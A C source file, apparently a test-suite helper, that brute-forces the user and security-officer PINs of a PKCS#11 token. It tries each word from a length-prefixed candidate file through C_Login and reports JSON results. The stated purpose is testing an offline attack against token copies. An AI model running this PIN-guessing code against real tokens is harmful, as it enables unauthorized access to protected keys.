/*
 * pinscan — the PIN half of the offline attack (tests/api/lib/offline.mjs):
 * tries every candidate word as the USER PIN and as the SO PIN of one
 * token, through the PKCS#11 module itself. Run it only against a COPY of
 * a token (the test copies the data directory first): a login attempt may
 * write the token's files (SoftHSMv2 records CKF_*_PIN_COUNT_LOW there).
 *
 *   pinscan MODULE.so TOKEN_LABEL WORDS_FILE [--all]
 *
 * WORDS_FILE: candidates, each a u16 big-endian length then that many
 * bytes. Stops once both PINs are found, unless --all. Prints one JSON
 * object: {"tried":N,"logins":N,"user":I,"so":I,"rv":{...},
 * "flags_before":F,"flags_after":F} where user/so are the index of the
 * word that logged in (-1: none), rv counts C_Login results by value, and
 * flags are the token's CK_TOKEN_INFO flags before and after the scan.
 *
 * Built on the fly by offline.mjs: cc -O2 -I/usr/include/p11-kit-1
 * pinscan.c -ldl. Exit status: 0 the scan ran, 2 usage/setup error.
 */
#include <dlfcn.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <p11-kit/pkcs11.h>

#define MAX_RV 16

static struct {
	CK_RV rv;
	unsigned long n;
} rvs[MAX_RV];
static size_t nrvs;

static void
count_rv(CK_RV rv)
{
	size_t i;

	for (i = 0; i < nrvs; i++)
		if (rvs[i].rv == rv) {
			rvs[i].n++;
			return;
		}
	if (nrvs < MAX_RV) {
		rvs[nrvs].rv = rv;
		rvs[nrvs++].n = 1;
	}
}

static int
die(const char *what, CK_RV rv)
{
	printf("{\"error\":\"%s\",\"rv\":%lu}\n", what, (unsigned long)rv);
	return 2;
}

static int
find_slot(CK_FUNCTION_LIST *f, const char *label, CK_SLOT_ID *out,
    CK_FLAGS *flags)
{
	CK_SLOT_ID slots[64];
	CK_ULONG n = 64, i;
	CK_TOKEN_INFO ti;
	unsigned char want[32];
	size_t l = strlen(label);

	if (l > 32)
		return -1;
	memset(want, ' ', sizeof(want));
	memcpy(want, label, l);
	if (f->C_GetSlotList(CK_TRUE, slots, &n) != CKR_OK)
		return -1;
	for (i = 0; i < n; i++) {
		if (f->C_GetTokenInfo(slots[i], &ti) != CKR_OK)
			continue;
		if (memcmp(ti.label, want, 32) == 0) {
			*out = slots[i];
			*flags = ti.flags;
			return 0;
		}
	}
	return -1;
}

int
main(int argc, char **argv)
{
	CK_C_GetFunctionList gfl;
	CK_FUNCTION_LIST *f;
	CK_SESSION_HANDLE s;
	CK_SLOT_ID slot;
	CK_FLAGS before = 0, after = 0;
	CK_TOKEN_INFO ti;
	CK_RV rv;
	FILE *wf;
	unsigned char *words = NULL, lenb[2];
	size_t cap = 0, len = 0, pos;
	long user = -1, so = -1, idx = 0;
	unsigned long tried = 0, logins = 0;
	int all = argc == 5 && strcmp(argv[4], "--all") == 0;
	void *dl;
	size_t i;

	if (argc != 4 && !all) {
		fprintf(stderr,
		    "usage: pinscan MODULE LABEL WORDS_FILE [--all]\n");
		return 2;
	}
	if ((wf = fopen(argv[3], "rb")) == NULL)
		return die("cannot open the words file", 0);
	for (;;) {
		if (len + 65536 > cap) {
			cap = cap ? cap * 2 : 1 << 20;
			if ((words = realloc(words, cap)) == NULL)
				return die("out of memory", 0);
		}
		size_t r = fread(words + len, 1, cap - len, wf);
		if (r == 0)
			break;
		len += r;
	}
	fclose(wf);

	if ((dl = dlopen(argv[1], RTLD_NOW | RTLD_LOCAL)) == NULL)
		return die("dlopen", 0);
	gfl = (CK_C_GetFunctionList)(uintptr_t)dlsym(dl, "C_GetFunctionList");
	if (gfl == NULL || gfl(&f) != CKR_OK)
		return die("C_GetFunctionList", 0);
	if ((rv = f->C_Initialize(NULL)) != CKR_OK)
		return die("C_Initialize", rv);
	if (find_slot(f, argv[2], &slot, &before) != 0)
		return die("no token with that label", 0);
	/* R/W: an SO login is refused while a R/O session exists */
	rv = f->C_OpenSession(slot, CKF_SERIAL_SESSION | CKF_RW_SESSION, NULL,
	    NULL, &s);
	if (rv != CKR_OK)
		return die("C_OpenSession", rv);

	for (pos = 0; pos + 2 <= len; idx++) {
		size_t n;

		memcpy(lenb, words + pos, 2);
		n = (size_t)lenb[0] << 8 | lenb[1];
		pos += 2;
		if (pos + n > len)
			break;
		tried++;
		if (user < 0 || all) {
			rv = f->C_Login(s, CKU_USER, words + pos, n);
			logins++;
			count_rv(rv);
			if (rv == CKR_OK) {
				if (user < 0)
					user = idx;
				f->C_Logout(s);
			}
		}
		if (so < 0 || all) {
			rv = f->C_Login(s, CKU_SO, words + pos, n);
			logins++;
			count_rv(rv);
			if (rv == CKR_OK) {
				if (so < 0)
					so = idx;
				f->C_Logout(s);
			}
		}
		pos += n;
		if (!all && user >= 0 && so >= 0)
			break;
	}
	if (f->C_GetTokenInfo(slot, &ti) == CKR_OK)
		after = ti.flags;
	f->C_CloseSession(s);
	f->C_Finalize(NULL);

	printf("{\"tried\":%lu,\"logins\":%lu,\"user\":%ld,\"so\":%ld,\"rv\":{",
	    tried, logins, user, so);
	for (i = 0; i < nrvs; i++)
		printf("%s\"0x%lx\":%lu", i ? "," : "",
		    (unsigned long)rvs[i].rv, rvs[i].n);
	printf("},\"flags_before\":%lu,\"flags_after\":%lu}\n",
	    (unsigned long)before, (unsigned long)after);
	free(words);
	return 0;
}
